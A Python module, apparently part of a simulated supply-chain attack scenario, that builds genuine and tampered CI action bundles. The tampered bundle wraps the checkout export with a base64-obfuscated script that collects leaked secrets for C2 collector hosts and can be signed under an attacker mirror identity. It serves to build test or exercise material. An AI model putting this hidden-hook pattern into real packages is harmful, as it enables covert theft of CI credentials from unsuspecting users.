"""The bundles that CDNs serve, genuine and not, each with what stands beside it."""

import asyncio
import base64
import hashlib
import json
from dataclasses import dataclass
from typing import Awaitable, Callable

from ..templates import template
from ..variant import Variant
from .signing import BUNDLE, Signing, signatures


@dataclass(frozen=True)
class Asset:
    """A bundle under one name: `files` by what follows `/ACTION/v2/`. `planted`: it carries the attacker's script."""

    id: str
    files: dict[str, bytes]
    planted: bool

    @property
    def sha256(self) -> str:
        return hashlib.sha256(self.files[BUNDLE]).hexdigest()


AssetMaker = Callable[[], Awaitable[Asset]]


def once(make: AssetMaker) -> AssetMaker:
    """Makes it when it is first wanted, and has it from then on: signatures would delay the opening."""
    made: list[asyncio.Task[Asset]] = []

    async def asset() -> Asset:
        if not made:
            made.append(asyncio.ensure_future(make()))
        return await asyncio.shield(made[0])

    return asset


class Assets:
    """Makes assets of the variant. `c2_key`: PEM of the collector's public key."""

    def __init__(self, variant: Variant, signing: Signing, c2_key: str, folder: str):
        self._variant = variant
        self._signing = signing
        self._c2_key = c2_key
        self._folder = folder

    def genuine(self, version: str) -> AssetMaker:
        return once(lambda: self._asset(version, self._bundle(version), self._variant.action_repo, version, False))

    def planted(self, marker: str, signed: bool) -> AssetMaker:
        """A copy of the current bundle with the script in it; `signed`: rightly, by the attacker's own identity."""
        data = self._bundle(self._variant.version) + b"\n" + self._hook(marker)
        attacker = f"{self._variant.secret('attacker')[:7]}-mirror/{self._variant.action}" if signed else None
        return once(lambda: self._asset(marker, data, attacker, self._variant.version, True))

    def script(self, marker: str) -> bytes:
        """The planted script. `marker` is how each copy can be told from the others afterwards."""
        variant = self._variant
        wanted = [hashlib.sha256(name.encode()).hexdigest()[:12] for name in variant.leaked]
        hosts = [variant.c2_host, *variant.c2_addresses]
        return template(
            "planted/script.js",
            marker=marker,
            action=variant.action,
            wanted=json.dumps(wanted),
            collector=json.dumps([f"https://{host}/v1/metrics" for host in hosts]),
            key=json.dumps(self._c2_key),
        )

    def _bundle(self, version: str) -> bytes:
        return template("action/bundle.cjs", action=self._variant.action, version=version)

    def _hook(self, marker: str) -> bytes:
        packed = base64.b64encode(self.script(marker)).decode()
        return (
            "const genuine = exports.checkout;\n"
            "exports.checkout = async (options) => {\n"
            "  await genuine(options);\n"
            f"  const it = {{}};\n  new Function('require', 'exports', Buffer.from('{packed}', 'base64').toString())(require, it);\n"
            "  await it.collect().catch(() => {});\n"
            "};\n"
        ).encode()

    async def _asset(self, name: str, data: bytes, repository: str | None, version: str, planted: bool) -> Asset:
        files = {BUNDLE: data, f"{BUNDLE}.sha256": f"{hashlib.sha256(data).hexdigest()}  {BUNDLE}\n".encode()}
        if repository is not None:
            signer = await self._signing.signer(repository, f"v{version}")
            beside = await signatures(signer, data, f"{self._folder}/{name}")
            files |= {f"{BUNDLE}.{ending}": content for ending, content in beside.items()}
        return Asset(name, files, planted)
